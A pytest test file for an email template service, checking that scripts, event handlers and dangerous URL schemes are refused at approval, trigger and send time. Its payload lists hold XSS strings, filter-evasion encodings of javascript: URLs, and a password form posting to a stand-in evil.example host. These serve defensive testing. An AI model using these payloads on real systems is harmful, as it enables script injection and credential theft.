"""Active content (issue 15): refused at approval, and per recipient before a message is accepted or sent.

Each attack is replayed through the real pipeline (MJML, sandboxed Jinja): at
the gate (``run_checks`` on the sample render, then ``version_approve``), and
per recipient (``refuse_active_content`` on one recipient's render, the worker's
prepare against a real SMTP server on loopback). The real MJML corpus
(``../shared/corpora/mjml``) must still pass both.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dispatch.models import Message, MessageStatus
from dispatch.services.triggers import trigger_accept
from dispatch.services.worker import batch_send
from templates_registry import services
from templates_registry.checks import active_content_problem, refuse_active_content, run_checks
from templates_registry.rendering import RenderedMessage, RenderError, VersionContent, compile_version
from tests.conftest import CORPORA, SIMPLE_MJML, SIMPLE_VARIABLES, recipients
from tests.smtp_sink import SmtpSink

CORPUS = CORPORA / "mjml"
UNSUBSCRIBE = '<a href="https://example.com/u/tok">Unsubscribe</a>'


def version_content(raw_html: str, **variables: Any) -> VersionContent:
    """A real MJML version whose body carries ``raw_html`` through <mj-raw> (MJML passes it on as it is)."""
    footer = f"<mj-section><mj-column><mj-text>{UNSUBSCRIBE}</mj-text></mj-column></mj-section>"
    mjml = f"<mjml><mj-body><mj-raw>{raw_html}</mj-raw>{footer}</mj-body></mjml>"
    return VersionContent(mjml_body=mjml, subject="Your weekly picks", variables=variables)


def gate(content: VersionContent) -> tuple[bool, str]:
    """The active_content check on the version's sample render: (passed, message)."""
    rendered = compile_version(content).render(content.variables)
    [result] = [r for r in run_checks(rendered, text_was_given=False) if r.name == "active_content"]
    assert result.blocking and result.message.splitlines() == [result.message]
    return result.passed, result.message


ATTACKS = [
    ("<script>alert(document.cookie)</script>", "<script>"),
    ('<img src="https://cdn.example.com/a.png" alt="" onload="alert(1)">', "onload handler on <img>"),
    ('<img src="x" ONERROR="alert(1)" alt="">', "onerror handler on <img>"),
    ('<iframe src="javascript:alert(1)"></iframe>', "<iframe>"),
    ('<form action="https://evil.example/collect"><input name="password"></form>', "<form>"),
    ('<button formaction="javascript:alert(1)">Go</button>', "javascript: in <button formaction>"),
    ('<object data="https://evil.example/x.swf"></object>', "<object>"),
    ('<embed src="https://evil.example/x.swf">', "<embed>"),
    ('<base href="https://evil.example/">', "<base>"),
    ('<meta http-equiv=" Refresh " content="0;url=https://evil.example/">', "<meta http-equiv=refresh>"),
    ('<a href="JaVaScRiPt:alert(1)">Win</a>', "javascript: in <a href>"),
    ('<a href="java&#x09;script:alert(1)">Win</a>', "javascript: in <a href>"),
    ('<a href="java&Tab;script&colon;alert(1)">Win</a>', "javascript: in <a href>"),
    ('<a href="&#106;&#97;vascript:alert(1)">Win</a>', "javascript: in <a href>"),
    ('<a href=" &#32;&#10;&#x0d; javascript:alert(1)">Win</a>', "javascript: in <a href>"),
    ('<a href="vbscript:msgbox(1)">Win</a>', "vbscript: in <a href>"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Win</a>', "data: in <a href>"),
    ('<img alt="" srcset="https://cdn.example.com/a.png 1x, data:image/svg+xml,x 2x">', "data: in <img srcset>"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "javascript: in <a xlink:href>"),
    ('<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>', "javascript: in <div style> url()"),
    ('<div style="width: expr/**/ession(alert(1))">x</div>', "expression in <div style>"),
]


@pytest.mark.parametrize(("raw_html", "reason"), ATTACKS)
def test_each_attack_is_refused_at_the_gate_with_a_one_line_reason(raw_html: str, reason: str) -> None:
    passed, message = gate(version_content(raw_html))
    assert not passed
    assert message.startswith("active content is not allowed in email: ") and reason in message


@pytest.mark.parametrize(("raw_html", "reason"), ATTACKS)
def test_each_attack_in_the_template_is_refused_per_recipient_too(raw_html: str, reason: str) -> None:
    # A version approved before this check, or a branch the sample values did not take: the send-time check reads it all.
    rendered = compile_version(version_content(raw_html)).render({})
    with pytest.raises(RenderError, match="active content is not allowed in email"):
        refuse_active_content(rendered)
    assert active_content_problem(rendered) == reason.split(", ")[0] or reason in str(active_content_problem(rendered))


@pytest.mark.parametrize(
    "raw_html",
    [
        '<a href="https://example.com/p?a=1&amp;online=yes">Shop online=now</a>',
        '<a href="mailto:help@example.com">Mail</a> <a href="tel:+4930123">Call</a> <a href="#top">Top</a>',
        '<img src="cid:logo@example.com" alt="Logo"> <img src="https://cdn.example.com/a.png" alt="">',
        '<meta http-equiv="X-UA-Compatible" content="IE=edge"><p>Note: this is not a scheme</p>',
        '<div style="background:url(https://cdn.example.com/bg.png)">x</div><p>javascript: is only text here</p>',
        '<!-- <script>commented out</script> --><p>ok</p>',
    ],
)
def test_ordinary_email_html_passes_both_checks(raw_html: str) -> None:
    content = version_content(raw_html)
    assert gate(content)[0]
    assert active_content_problem(compile_version(content).render({})) is None


# --- per recipient: the values a recipient's context puts into the message -----------------------------------------

LINK = '<a href="{{ url }}">Your offer</a>'
HOSTILE_URLS = [
    ("javascript:alert(1)", "javascript: in <a href>"),
    ("JaVaScRiPt:alert(1)", "javascript: in <a href>"),
    ("  \t\njavascript:alert(1)", "javascript: in <a href>"),
    ("\x01\x02javascript:alert(1)", "javascript: in <a href>"),
    ("java\tscript:alert(1)", "javascript: in <a href>"),
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data: in <a href>"),
    ("vbscript:msgbox(1)", "vbscript: in <a href>"),
]


@pytest.mark.parametrize(("url", "reason"), HOSTILE_URLS)
def test_a_recipients_url_with_a_forbidden_scheme_is_refused_at_render(url: str, reason: str) -> None:
    compiled = compile_version(version_content(LINK, url="https://example.com/offer"))
    assert gate(version_content(LINK, url="https://example.com/offer"))[0]  # the sample is fine: the gate passes

    with pytest.raises(RenderError) as refused:
        refuse_active_content(compiled.render({"url": url}))

    assert str(refused.value) == f"mjml_body: active content is not allowed in email: {reason}"


def test_a_value_cannot_smuggle_an_entity_into_a_scheme() -> None:
    # Values are escaped: "&#x09;" arrives as text, so the browser sees a relative link, and so does the check.
    compiled = compile_version(version_content(LINK, url="https://example.com"))
    assert active_content_problem(compiled.render({"url": "java&#x09;script:alert(1)"})) is None


@pytest.mark.parametrize(
    ("raw_html", "context", "reason"),
    [
        # a scheme split over two values, and over a value and the template's text
        ('<a href="{{ a }}{{ b }}">x</a>', {"a": "java", "b": "script:alert(1)"}, "javascript: in <a href>"),
        ('<a href="{{ a }}script:alert(1)">x</a>', {"a": "java"}, "javascript: in <a href>"),
        ('<img alt="" src="{{ url }}">', {"url": "data:image/svg+xml,<svg onload=alert(1)>"}, "data: in <img src>"),
        ('<div style="background:url({{ url }})">x</div>', {"url": "javascript:alert(1)"}, "javascript: in <div style> url()"),
        ("<div{{ attrs|xmlattr }}>x</div>", {"attrs": {"onclick": "alert(1)"}}, "onclick handler on <element>"),
        ("<a{{ attrs|xmlattr }}>x</a>", {"attrs": {"href": "javascript:alert(1)"}}, "javascript: in <element href>"),
        ('<div title="{{ d|tojson }}">x</div>', {"d": {"k": "x onmouseover=alert(1) y"}}, "onmouseover handler on <element>"),
        ("{% if vip %}<script>alert(1)</script>{% endif %}", {"vip": True}, "<script>"),
    ],
)
def test_values_that_make_content_active_are_refused_per_recipient(raw_html: str, context: dict[str, Any], reason: str) -> None:
    rendered = compile_version(version_content(raw_html)).render(context)
    assert active_content_problem(rendered) == reason


def test_a_safe_url_after_a_safe_prefix_stays_safe() -> None:
    compiled = compile_version(version_content('<a href="https://example.com/r?to={{ url }}">x</a>'))
    assert active_content_problem(compiled.render({"url": "javascript:alert(1)"})) is None  # a query value, not a scheme


@pytest.mark.parametrize(
    ("parts", "reason"),
    [
        (("<p>", "<a href=", "javascript:alert(1)", ">x</a>"), "javascript: in <a href>"),  # unquoted (not XML: MJML refuses it)
        (('<div style="background:url(', "\\6a avascript:alert(1)", ')">'), "javascript: in <div style> url()"),  # CSS escape
        (("<a href='", "\x01\x02javascript:x", "'>",), "javascript: in <a href>"),
        (("<a title=", "x onclick=alert(1)", ">",), "onclick handler on <a>"),
    ],
)
def test_chunks_the_pipeline_cannot_make_from_mjml_are_read_too(parts: tuple[str, ...], reason: str) -> None:
    html = "".join(parts)
    by_chunks = active_content_problem(RenderedMessage("s", "", "", html, "t", html_parts=parts))
    assert by_chunks in (reason, reason.replace("<a>", "<element>"))  # a chunk read inside a tag may not know its name
    assert active_content_problem(RenderedMessage("s", "", "", html, "t")) == reason


def test_the_whole_html_is_read_when_the_render_gave_no_chunks() -> None:
    html = '<p>Hi</p><a href="javascript:alert(1)">x</a>'
    assert active_content_problem(RenderedMessage("s", "", "", html, "t")) == "javascript: in <a href>"


@settings(max_examples=200, deadline=None)
@given(url=st.text(max_size=40))
def test_the_per_recipient_check_agrees_with_the_gate_on_any_url(url: str) -> None:
    # The cheap path (chunks) and the full parse (the gate) give one verdict for any value in an href.
    rendered = compile_version(version_content(LINK, url="https://example.com")).render({"url": url})
    [gate_result] = [r for r in run_checks(rendered, text_was_given=False) if r.name == "active_content"]
    assert (active_content_problem(rendered) is None) == gate_result.passed


# --- the real corpus --------------------------------------------------------------------------------------------


def corpus_documents() -> list[Path]:
    return sorted(CORPUS.glob("*.mjml"))


def test_the_corpus_is_there() -> None:
    assert len(corpus_documents()) > 100


@pytest.mark.parametrize("path", corpus_documents(), ids=lambda p: p.name)
def test_real_mjml_documents_pass_the_gate_and_the_per_recipient_check(path: Path) -> None:
    content = VersionContent(mjml_body=path.read_text(encoding="utf-8"), subject="Corpus")
    try:
        rendered = compile_version(content).render({})
    except RenderError:
        pytest.skip("does not compile here (not this check's business)")
    assert active_content_problem(rendered) is None
    [result] = [r for r in run_checks(rendered, text_was_given=False) if r.name == "active_content"]
    assert result.passed, result.message


@pytest.mark.parametrize("path", sorted(CORPUS.glob("*.html")), ids=lambda p: p.name)
def test_mjmls_own_reference_html_passes(path: Path) -> None:
    rendered = RenderedMessage("Corpus", "", "", path.read_text(encoding="utf-8"), "text")
    assert active_content_problem(rendered) is None
    assert {r.name: r.passed for r in run_checks(rendered, text_was_given=True)}["active_content"]


# --- the doors: approval, trigger, worker --------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_version_with_a_script_is_not_approvable(variant: Any, marketer: Any) -> None:
    from deliverability.assessments import version_assess

    mjml = SIMPLE_MJML.replace("</mj-body>", "<mj-raw><script>alert(1)</script></mj-raw></mj-body>")
    version = services.version_create(
        variant=variant, mjml_body=mjml, subject="Hi {{ first_name }}", sender_name="Atelier", variables=SIMPLE_VARIABLES
    )
    version_assess(version_id=version.pk)

    with pytest.raises(services.RegistryError) as refused:
        services.version_approve(version=version, approved_by=marketer)

    assert "pre-send check active_content failed: active content is not allowed in email: <script>" in str(refused.value)


@pytest.mark.django_db
def test_the_trigger_refuses_a_recipient_whose_context_holds_a_javascript_url(campaign: Any) -> None:
    people = recipients(2)
    people[1]["context"] = people[1]["context"] | {"offer_url": "javascript:alert(1)"}

    response, _ = trigger_accept(campaign=campaign, idempotency_key="k", recipients=people)

    assert (response["accepted"], response["rejected"]) == (1, 1)
    assert "active content is not allowed in email: javascript: in <a href>" in response["rejections"][0]["reason"]


@pytest.mark.django_db
def test_the_worker_fails_a_queued_message_whose_context_holds_a_data_url(
    campaign: Any, sending_domain: Any, smtp_sink: SmtpSink
) -> None:
    # A row queued before the trigger checked (content_checked false: rows older than the check): the worker's
    # prepare is the last door.
    trigger_accept(campaign=campaign, idempotency_key="k", recipients=recipients(3))
    assert set(Message.objects.values_list("content_checked", flat=True)) == {True}, "the trigger checked every recipient"
    poisoned = Message.objects.get(recipient="user1@example.org")
    poisoned.context = poisoned.context | {"offer_url": "data:text/html,<script>alert(1)</script>"}
    poisoned.content_checked = False
    poisoned.save(update_fields=["context", "content_checked"])

    while batch_send(domain_id=sending_domain.pk).more:
        pass

    poisoned.refresh_from_db()
    assert poisoned.status == MessageStatus.FAILED
    assert poisoned.last_reply == "render: mjml_body: active content is not allowed in email: data: in <a href>"
    assert sorted(m.status for m in Message.objects.exclude(pk=poisoned.pk)) == [MessageStatus.SENT] * 2
    assert len(smtp_sink.pairs()) == 2
